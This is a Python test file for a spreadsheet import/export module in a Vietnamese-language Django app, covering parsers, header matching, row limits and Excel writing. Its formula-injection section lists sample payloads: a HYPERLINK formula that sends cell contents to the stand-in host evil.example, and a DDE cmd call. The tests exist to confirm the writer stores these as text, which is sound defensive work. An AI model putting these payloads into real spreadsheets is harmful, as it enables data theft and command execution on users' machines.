"""core.sheets (reading, sheet, rows, writing) and the number/date parsers it relies on."""

from __future__ import annotations

import contextlib
import datetime as dt
import io
import time
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from core.sheets.reading import BadWorkbook, ReadResult
from core.sheets.rows import Lookup, check_unique
from core.sheets.sheet import Column, open_sheet
from core.sheets.writing import Out, SheetWriter, ascii_filename, xlsx_response
from core.text import format_date, format_number, parse_date, parse_number

# Parsers -------------------------------------------------------------------------------------


@given(
    st.decimals(min_value=Decimal("-1e12"), max_value=Decimal("1e12"), places=4, allow_nan=False)
)
def test_format_number_round_trips_through_parse_number(value: Decimal) -> None:
    assert parse_number(format_number(value)) == value


@given(st.integers(min_value=-(10**15), max_value=10**15))
def test_integers_round_trip(value: int) -> None:
    assert parse_number(format_number(value)) == value


@given(st.dates(min_value=dt.date(1900, 1, 1), max_value=dt.date(9999, 12, 31)))
def test_dd_mm_yyyy_round_trips(value: dt.date) -> None:
    assert parse_date(format_date(value)) == value
    assert parse_date(f"{value.day}/{value.month}/{value.year}") == value


@given(st.text(max_size=40))
def test_parsers_raise_only_value_error(text: str) -> None:
    for parse in (parse_number, parse_date):
        with contextlib.suppress(ValueError):
            parse(text)


@given(st.from_regex(r"\A[0-9.,/ \-+]{0,14}\Z"))
def test_parsers_on_number_like_text_raise_only_value_error(text: str) -> None:
    for parse in (parse_number, parse_date):
        with contextlib.suppress(ValueError):
            parse(text)


def test_parse_date_reads_vietnamese_forms_and_refuses_impossible_days() -> None:
    assert parse_date("23/8/2023") == dt.date(2023, 8, 23)
    assert parse_date("23/08/2023") == dt.date(2023, 8, 23)
    assert parse_date(" 5-9-2023 ") == dt.date(2023, 9, 5)
    assert parse_date("2023-08-23") == dt.date(2023, 8, 23)
    for bad in ["31/2/2024", "29/2/2023", "8/23/2023x", "23/8/23", "", "ngày 23", "٢٣/٠٨/٢٠٢٣"]:
        with pytest.raises(ValueError):
            parse_date(bad)
    assert parse_date("29/2/2024") == dt.date(2024, 2, 29)


# Reading -------------------------------------------------------------------------------------

COLUMNS = [
    Column("code", "Mã", required=True),
    Column("name", "Tên đơn vị", required=True, aliases=("Đơn vị",)),
    Column("day", "Ngày bắt đầu"),
    Column("value", "Giá trị"),
    Column("kind", "Loại"),
]


def book(
    rows: list[list[object]], title: str = "Đơn vị", header: list[str] | None = None
) -> Workbook:
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = title
    sheet.append(header or ["MÃ ", "ten don vi", "Ngày  bắt đầu", "giá trị", "Loại"])
    for row in rows:
        sheet.append(row)
    return workbook


def data_of(workbook: Workbook) -> bytes:
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def read(
    data: bytes, **kwargs: object
) -> list[tuple[int, dict[str, object], list[tuple[str, str]]]]:
    sheet = open_sheet(data, COLUMNS, sheet="đơn vị", **kwargs)  # type: ignore[arg-type]
    out = []
    for row in sheet.rows():
        values = {
            "code": row.text("code", required=True),
            "name": row.text("name", required=True),
            "day": row.date("day"),
            "value": row.number("value"),
            "kind": row.choice("kind", [("a", "Loại một"), ("b", "Loại hai")]),
        }
        out.append((row.row, values, row.result.errors))
    return out


def test_headers_match_without_diacritics_case_or_spaces_and_values_are_typed() -> None:
    rows = read(
        data_of(
            book(
                [
                    ["K1", "Khoa Một", dt.datetime(2023, 8, 23), 1234.5, "loai mot"],
                    ["K2", "Khoa Hai", "23/8/2023", "1.234,5", "b"],
                    [None, None, None, None, None],
                    ["K3", "Khoa Ba", "23/08/2023", 7, None],
                ]
            )
        )
    )
    assert [r[0] for r in rows] == [2, 3, 5]  # the empty row is skipped, numbers as in Excel
    assert rows[0][1] == {
        "code": "K1", "name": "Khoa Một", "day": dt.date(2023, 8, 23),
        "value": Decimal("1234.5"), "kind": "a",
    }  # fmt: skip
    assert rows[1][1]["day"] == dt.date(2023, 8, 23) and rows[1][1]["value"] == Decimal("1234.5")
    assert rows[1][1]["kind"] == "b" and rows[2][1]["value"] == 7
    assert all(not r[2] for r in rows)


def test_cell_errors_name_row_and_column() -> None:
    rows = read(
        data_of(
            book(
                [
                    ["K1", "", "31/2/2024", "mười", "Loại ba"],
                    ["K2", "Khoa", "=TODAY()", "=1+1", None],
                ]
            )
        )
    )
    (_r1, _v1, errors1), (_r2, _v2, errors2) = rows
    assert ("Tên đơn vị", "Ô bắt buộc đang trống.") in errors1
    assert any(c == "Ngày bắt đầu" and "31/2/2024" in m for c, m in errors1)
    assert any(c == "Giá trị" and "không phải là số" in m for c, m in errors1)
    assert any(c == "Loại" and "Loại một, Loại hai" in m for c, m in errors1)
    assert [c for c, m in errors2 if "công thức" in m] == ["Ngày bắt đầu", "Giá trị"]


def test_aliases_and_missing_columns() -> None:
    sheet = open_sheet(data_of(book([["K", "X"]], header=["Mã", "Đơn vị"])), COLUMNS)
    assert sheet.has("name") and not sheet.has("day")
    with pytest.raises(BadWorkbook, match="thiếu cột: Tên đơn vị"):
        open_sheet(data_of(book([["K"]], header=["Mã", "Ghi chú"])), COLUMNS)


def test_wrong_sheet_name_names_the_expected_one() -> None:
    with pytest.raises(BadWorkbook, match="Không thấy trang tính “Đơn vị”; tệp có: “Sheet1”"):
        open_sheet(data_of(book([["K", "X"]], title="Sheet1")), COLUMNS, sheet="Đơn vị")


def test_merged_cells_are_refused_with_row_and_column() -> None:
    workbook = book([["K1", "A"], ["K2", "B"]])
    workbook.active.merge_cells("B2:B3")
    with pytest.raises(BadWorkbook, match=r"ô gộp: B2:B3 \(dòng 2, cột Tên đơn vị\)"):
        open_sheet(data_of(workbook), COLUMNS)


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"", "Tệp trống"),
        (b"Ho ten;Ngay\nA;1\n", "không phải Excel"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "kiểu cũ (.xls)"),
        (b"PK\x03\x04broken", "Không đọc được tệp Excel"),
    ],
)
def test_files_that_are_not_workbooks(data: bytes, message: str) -> None:
    with pytest.raises(BadWorkbook, match=message.replace("(", r"\(").replace(")", r"\)")):
        open_sheet(data, COLUMNS)


def test_a_word_file_is_named_as_such() -> None:
    import zipfile

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("word/document.xml", "<w:document/>")
        archive.writestr("[Content_Types].xml", "<Types/>")
    with pytest.raises(BadWorkbook, match="tệp Word"):
        open_sheet(buffer.getvalue(), COLUMNS)


def test_too_many_rows_is_one_clear_message_and_quick() -> None:
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("Đơn vị")
    sheet.append(["Mã", "Tên đơn vị"])
    for number in range(100_000):
        sheet.append([number, "x"])
    data = data_of(workbook)  # type: ignore[arg-type]
    started = time.monotonic()
    with pytest.raises(BadWorkbook, match=r"hơn 5\.000 dòng"):
        list(open_sheet(data, COLUMNS, max_rows=5_000).rows())
    assert time.monotonic() - started < 3


def test_lookup_by_code_or_name_reports_ambiguity() -> None:
    class Unit:
        def __init__(self, pk: int, code: str, name: str) -> None:
            self.pk, self.code, self.name = pk, code, name

    units = [
        Unit(1, "TN", "Khoa Tự nhiên"),
        Unit(2, "XH", "Khoa Xã hội"),
        Unit(3, "X2", "Khoa Xã Hội"),
    ]
    index = Lookup(units, ("code", "name"), "đơn vị")
    data = data_of(book([["k", "khoa tu nhien; XH"], ["k2", "Khoa xa hoi"], ["k3", "Phòng A"]]))
    sheet = open_sheet(data, COLUMNS)
    found = [(row.lookups("name", index), row.result.errors) for row in sheet.rows()]
    assert [u.pk for u in found[0][0]] == [1, 2] and not found[0][1]
    assert "Có nhiều đơn vị “Khoa xa hoi”: hãy ghi mã." in found[1][1][0][1]
    assert found[2][1] == [("Tên đơn vị", "Không có đơn vị “Phòng A”.")]


def test_check_unique_and_read_result_counts() -> None:
    sheet = open_sheet(data_of(book([["A", "x"], ["a", "y"], ["B", "z"]])), COLUMNS)
    rows = list(sheet.rows())
    check_unique(((row, row.text("code")) for row in rows), "code")
    result = ReadResult()
    for row, action in zip(rows, ["create", "update", "unchanged"], strict=True):
        row.result.action = action
        result.add(row.result)
    assert result.errors == [(3, "Mã", "Trùng với dòng 2.")]
    assert result.counts == {"create": 1, "update": 0, "unchanged": 1, "error": 1}
    assert not result.ok


# Writing -------------------------------------------------------------------------------------


@pytest.mark.parametrize("write_only", [True, False])
def test_writer_bold_header_widths_frozen_dates_and_numbers(write_only: bool) -> None:
    writer = SheetWriter(write_only=write_only)
    writer.sheet(
        "Nhiệm vụ: 2023/2024",
        [Out("Mã", 8), Out("Hạn", kind="date"), Out("Giá trị", kind="number"), "Ghi chú"],
        [["A", dt.date(2023, 8, 23), Decimal("1234.5"), "x"], ["B", None, 3, None]],
    )
    sheet = load_workbook(io.BytesIO(writer.to_bytes())).worksheets[0]
    assert sheet.title == "Nhiệm vụ  2023 2024"
    assert sheet["A1"].font.b and sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["A"].width == 8
    assert sheet["B2"].value == dt.datetime(2023, 8, 23)
    assert sheet["B2"].number_format == "DD/MM/YYYY"
    assert sheet["C2"].value == 1234.5 and sheet["C3"].value == 3


def test_download_names_keep_vietnamese() -> None:
    response = xlsx_response(b"x", "Nhiệm vụ 2023–2024.xlsx")
    disposition = response["Content-Disposition"]
    assert disposition.startswith('attachment; filename="nhiem-vu-2023-2024.xlsx"; ')
    assert "filename*=utf-8''Nhi%E1%BB%87m%20v%E1%BB%A5" in disposition
    assert ascii_filename("Đơn vị") == "don-vi"


def test_row_limit_also_holds_while_streaming_an_open_workbook() -> None:
    from core.sheets.reading import open_workbook

    data = data_of(book([[f"K{n}", "x"] for n in range(5)]))
    with pytest.raises(BadWorkbook, match="hơn 3 dòng dữ liệu"):
        list(open_sheet(data, COLUMNS, max_rows=3, workbook=open_workbook(data)).rows())
    with pytest.raises(BadWorkbook, match="hơn 3 dòng"):
        open_sheet(data, COLUMNS, max_rows=3)
    assert len(list(open_sheet(data, COLUMNS, max_rows=5).rows())) == 5


def test_lookup_ignores_punctuation_but_prefers_an_exact_match() -> None:
    class Unit:
        def __init__(self, pk: int, name: str) -> None:
            self.pk, self.name = pk, name

    index = Lookup(
        [Unit(1, "Phòng Kế hoạch – Tài chính"), Unit(2, "A-B"), Unit(3, "AB")], ("name",), "đơn vị"
    )
    assert index.get("phong ke hoach tai chinh").pk == 1
    assert index.get("PHÒNG KẾ HOẠCH - TÀI CHÍNH").pk == 1
    assert index.get("a-b").pk == 2 and index.get("ab").pk == 3
    assert index.find("a b") == (None, True)  # loosely both: ask for the code


# Formula injection ---------------------------------------------------------------------------

# Text a user may type that a spreadsheet would take for a formula (or a DDE call).
FORMULA_LIKE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "+84 912 345 678",
    "-5 giờ",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _formula_parts(data: bytes) -> list[str]:
    import zipfile

    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return [
            name
            for name in archive.namelist()
            if name.startswith("xl/worksheets/") and b"<f>" in archive.read(name)
        ]


@pytest.mark.parametrize("write_only", [True, False])
def test_user_text_is_written_as_text_never_as_a_formula(write_only: bool) -> None:
    writer = SheetWriter(write_only=write_only)
    writer.sheet("Đơn vị", ["Mã", "Tên đơn vị"], [[f"K{i}", t] for i, t in enumerate(FORMULA_LIKE)])
    data = writer.to_bytes()
    assert _formula_parts(data) == []
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    cells = [row[1] for row in sheet.iter_rows(min_row=2)]
    assert [c.value for c in cells] == FORMULA_LIKE
    assert {c.data_type for c in cells} == {"s"}
    # The importers read such a cell back as the text it is.
    rows = list(open_sheet(data, COLUMNS, sheet="Đơn vị").rows())
    assert [row.raw["name"] for row in rows] == FORMULA_LIKE
    assert all(not row.result.errors for row in rows)


@pytest.mark.parametrize("write_only", [True, False])
def test_a_header_someone_typed_is_text_never_a_formula(write_only: bool) -> None:
    """A column named after what a user typed (a target's name in a report request)."""
    writer = SheetWriter(write_only=write_only)
    writer.sheet("Chỉ tiêu", ["Trường", *FORMULA_LIKE], [["CĐSP", *range(len(FORMULA_LIKE))]])
    data = writer.to_bytes()
    assert _formula_parts(data) == []
    header = next(load_workbook(io.BytesIO(data)).worksheets[0].iter_rows(max_row=1))
    assert [c.value for c in header[1:]] == FORMULA_LIKE
    assert header[1].font.bold


def test_writer_append_keeps_text_as_text() -> None:
    writer = SheetWriter(write_only=False)
    sheet = writer.workbook.create_sheet("Hướng dẫn")
    writer.append(sheet, ["Đơn vị", "=1+1"])
    data = writer.to_bytes()
    assert _formula_parts(data) == []
    cell = load_workbook(io.BytesIO(data))["Hướng dẫn"]["B1"]
    assert (cell.value, cell.data_type) == ("=1+1", "s")


def test_control_characters_pasted_into_a_title_do_not_break_the_export() -> None:
    writer = SheetWriter()
    writer.sheet("Nhiệm vụ", ["Tên"], [["Tổng\x0bkết\x01 năm học"]])
    sheet = load_workbook(io.BytesIO(writer.to_bytes())).worksheets[0]
    assert sheet["A2"].value == "Tổngkết năm học"


def test_a_real_formula_cell_is_still_refused() -> None:
    rows = read(data_of(book([["K1", '=HYPERLINK("x")', None, None, None]])))
    assert rows[0][2] and "công thức" in rows[0][2][0][1]


def test_the_preview_lists_a_thousand_rows_of_each_kind_and_counts_the_rest() -> None:
    from django.template.loader import render_to_string

    from core.sheets.reading import PREVIEW_ROWS, RowResult

    result = ReadResult()
    for row in range(2, 2 + PREVIEW_ROWS + 300):
        result.add(RowResult(row=row, label=f"mới {row}", action="create"))
    for row in range(5000, 5000 + PREVIEW_ROWS + 10):
        result.add(RowResult(row=row, label=f"cũ {row}", action="unchanged"))
    result.add(RowResult(row=9999, label="sai", errors=[("Lớp", "Không có lớp “X”.")]))
    assert len(result.preview) == PREVIEW_ROWS and result.preview_left == 301
    assert len(result.unchanged_preview) == PREVIEW_ROWS
    assert result.counts == {
        "create": PREVIEW_ROWS + 300,
        "update": 0,
        "unchanged": PREVIEW_ROWS + 10,
        "error": 1,
    }
    html = render_to_string("core/import_preview.html", {"result": result})
    assert "mới 2<" in html and f"mới {PREVIEW_ROWS + 1}<" in html
    assert f"mới {PREVIEW_ROWS + 2}<" not in html and "301 dòng nữa" in html
    # Every error is still listed, in the errors' table.
    assert "Không có lớp “X”." in html and html.count("<li>…</li>") == 1
